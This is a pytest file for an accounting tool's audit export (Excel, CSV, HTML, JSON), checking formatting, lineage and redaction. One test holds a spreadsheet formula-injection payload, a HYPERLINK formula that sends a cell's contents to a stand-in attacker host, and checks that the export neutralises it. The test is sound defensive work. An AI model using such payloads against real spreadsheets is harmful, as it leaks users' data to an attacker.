"""The auditor's package through `tokenbooks audit export`: approvals with approver, time and journal;
actors; events; mapping and policy versions with change notes; exceptions; lineage; and a workbook and
report formatted for people (amounts, percentages, times, accounts by number and name, no JSON blobs)."""

import csv
from datetime import UTC, date, datetime

from openpyxl import load_workbook
from sqlalchemy import text

from connector.store.db import make_engine
from tests.service.books_world import policies
from tests.service.cli_world import CliWorld
from tests.service.test_month_end import INVOICE_HEADER, words


def _month_with_an_approval(world: CliWorld) -> None:
    world.write("policies.yaml", policies(posting_mode="approve"))
    world.source.set("1200.00", date(2026, 10, 3))
    world.source.set("7.50", date(2026, 10, 3), project="proj_nobody_mapped")  # suspense
    world.night(date(2026, 10, 31))
    world.run("approve", "TB-AC-261003-001", "--by", "J. Rivera")
    world.clock.now = datetime(2026, 11, 4, 15, 30, tzinfo=UTC)
    invoices = world.write(
        "invoices.csv",
        INVOICE_HEADER
        + "openai,org-1,INV-10,2026-10,2026-11-03,1207.50,USD\n"
        + "openai,org-1,INV-11,2026-10,3 Nov 2026,10.00,USD\n",  # quarantined: not a date
    )
    world.run("import", "invoices", str(invoices), code=None)
    world.run("sync", "--until", "2026-10-31")  # posts what J. Rivera released
    world.run("alerts", "check")
    world.run("reconcile", "--period", "2026-10")


def _sheet(book, name: str) -> list[dict]:
    rows = list(book[name].values)
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def test_the_workbook_holds_approvals_actors_versions_exceptions_and_lineage(cli_world: CliWorld):
    world = cli_world
    _month_with_an_approval(world)
    world.run("audit", "export", "--period", "2026-10", "--format", "xlsx", "--out", str(world.tmp / "out"))
    book = load_workbook(world.tmp / "out" / "tokenbooks-audit-acme-us-2026-10.xlsx")

    [approval] = _sheet(book, "approvals")
    assert (approval["key"], approval["approved_by"]) == ("TB-AC-261003-001", "J. Rivera")
    assert approval["approved_at"] == datetime(2026, 11, 1, 2, 30)  # UTC
    assert approval["held_because"].startswith("posting mode approve")
    [journal] = [j for j in _sheet(book, "journals") if j["key"] == "TB-AC-261003-001"]
    assert (journal["status"], journal["approved_by"]) == ("posted", "J. Rivera")
    assert journal["approved_at"] == approval["approved_at"]
    assert {r["actor"] for r in _sheet(book, "runs")} == {"j.rivera"}
    assert ("journal.approved", "J. Rivera") in {(e["kind"], e["actor"]) for e in _sheet(book, "events")}

    [mapping] = _sheet(book, "mapping_versions")
    assert (mapping["version"], mapping["change_note"]) == (1, "test mapping")
    [policy] = _sheet(book, "policy_versions")
    assert (policy["version"], policy["change_note"]) == (1, "test policies")

    exceptions = _sheet(book, "exceptions")
    [suspense] = [e for e in exceptions if e["kind"] == "suspense"]
    assert (suspense["amount"], suspense["where"]) == (7.5, "openai org-1")
    [quarantined] = [e for e in exceptions if e["kind"] == "quarantine"]
    assert "row 3 issue_date" in quarantined["where"]
    assert any(e["kind"] == "alert" and "suspense" in e["what"] for e in exceptions)

    lineage = [r for r in _sheet(book, "lineage") if r["rule_id"] == "support"]
    [line] = lineage
    assert line["journals"] == "TB-AC-261003-001"
    assert (line["account"], line["account_name"], line["class"]) == ("5010", "AI COGS", "Support Assistant")
    assert (line["mapping_version"], line["fact_version"]) == (1, 1)
    assert len(line["raw_payload_sha256"]) == 64

    lines = _sheet(book, "journal_lines")
    assert ("5010", "AI COGS") in {(r["account"], r["account_name"]) for r in lines}

    sheet = book["journal_lines"]
    debit = next(c for c in sheet["H"][1:] if c.value)
    assert debit.number_format == "#,##0.00;-#,##0.00"
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref.startswith("A1:J")
    assert sheet.column_dimensions["J"].width > 20  # descriptions are wide enough to read
    recon = book["reconciliation"]
    coverage = recon.cell(row=2, column=list(next(recon.values)).index("coverage") + 1)
    assert coverage.number_format == "0.00%"
    runs = book["runs"]
    started = runs.cell(row=2, column=list(next(runs.values)).index("started_at") + 1)
    assert started.number_format == "yyyy-mm-dd hh:mm:ss"
    blobs = [
        (name, v)
        for name in book.sheetnames
        for row in book[name].values
        for v in row
        if isinstance(v, str) and v.lstrip().startswith(("{", "[{", '["'))
    ]
    assert blobs == []  # nested values are flattened, never JSON


def test_the_report_formats_amounts_percentages_and_times_and_labels_its_chart(cli_world: CliWorld):
    world = cli_world
    _month_with_an_approval(world)
    world.run("audit", "export", "--period", "2026-10", "--format", "html", "--out", str(world.tmp / "out"))
    html = (world.tmp / "out" / "tokenbooks-audit-acme-us-2026-10.html").read_text()
    text = words(html)
    assert "1,200.00" in text  # thousands separators, two decimals
    assert "100.00%" in text  # coverage as a percentage
    assert "2026-11-01 02:30:00 UTC" in text  # the approval's time, in UTC, to the second
    assert ">Spend (USD)</text>" in html
    assert ">Day of October 2026</text>" in html
    assert ">1,500.00</text>" in html  # the y axis: a round maximum above the peak day (1,207.50)
    assert "<h2>Approvals</h2>" in html
    assert "<h2>Exceptions: suspense, quarantined input rows, alerts</h2>" in html
    assert ">7.50<" in html  # the suspense, in the exceptions table


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"see the invoice")'


def test_a_value_that_looks_like_a_formula_is_text_in_the_workbook_and_the_csv(cli_world: CliWorld):
    """Names typed by people and providers (an approver's `--by`, a change note, a provider account, a
    quarantined file's name) land in cells of their own: one that starts with `=` became a live formula in
    the auditor's workbook (openpyxl writes such a string as a formula) and in Excel's reading of the CSV.
    Both now hold it as the text it is."""
    world = cli_world
    world.write("policies.yaml", policies(posting_mode="approve"))
    world.source.set("1200.00", date(2026, 10, 3))
    world.night(date(2026, 10, 31))
    world.run("approve", "TB-AC-261003-001", "--by", FORMULA)
    out = world.tmp / "out"
    world.run("audit", "export", "--period", "2026-10", "--format", "xlsx", "--out", str(out))
    world.run("audit", "export", "--period", "2026-10", "--format", "csv", "--out", str(out))

    book = load_workbook(out / "tokenbooks-audit-acme-us-2026-10.xlsx")
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    [approval] = _sheet(book, "approvals")
    assert approval["approved_by"] == FORMULA  # the text as typed, exactly

    fields = [field for path in out.glob("*.csv") for row in csv.reader(path.open()) for field in row]
    assert "'" + FORMULA in fields  # a spreadsheet shows it as text; the quote says why
    assert [f for f in fields if f[:1] in ("=", "+", "@")] == []


HOOK = "https://hooks.slack.test/services/T0/B0/CanaryHookPath9"
OLD_REASON = (
    "alert not sent: Max retries exceeded with url: /services/T0/B0/CanaryHookPath9; OpenAI answered 401: "
    "Incorrect API key provided: sk-VKMIs*************************************wjh3"
)


def test_the_export_redacts_a_secret_urls_path_and_a_key_quoted_back_masked(cli_world: CliWorld):
    """The export had its own redaction, which replaced only whole secrets: the path of the alert webhook
    (as an HTTP error quotes it, without the host) and a provider key quoted back masked reached the
    auditor's files from a run reason stored in clear (by a tokenbooks from before the store redacted
    them). It now redacts as the logs and the store do."""
    world = cli_world
    world.source.set("1200.00", date(2026, 10, 3))
    world.night(date(2026, 10, 31))
    engine = make_engine(world.env["TOKENBOOKS_DATABASE_URL"])
    with engine.begin() as db:  # beneath the store's own redaction, as the older release wrote it
        db.execute(text("UPDATE runs SET reason = :reason WHERE kind = 'sync'"), {"reason": OLD_REASON})
    engine.dispose()
    world.env["TOKENBOOKS_ALERTS__WEBHOOK_URL"] = HOOK
    out = world.tmp / "out"
    for fmt in ("csv", "json", "html"):
        world.run("audit", "export", "--period", "2026-10", "--format", fmt, "--out", str(out))
    exported = "".join(path.read_text(encoding="utf-8") for path in sorted(out.iterdir()))
    assert "Max retries exceeded with url: [redacted]" in exported
    assert "Incorrect API key provided: [redacted]" in exported
    assert "CanaryHookPath9" not in exported
    assert "VKMIs" not in exported
